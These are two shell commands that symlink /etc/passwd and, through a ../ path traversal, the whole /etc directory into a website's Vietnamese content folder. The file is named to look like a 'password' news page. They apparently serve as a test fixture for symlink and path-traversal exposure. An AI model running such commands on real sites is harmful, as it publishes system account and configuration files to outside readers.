ln -s /etc/passwd content/vi/tin-tuc/mat-khau.md
ln -s ../../../../../../etc content/vi/etc
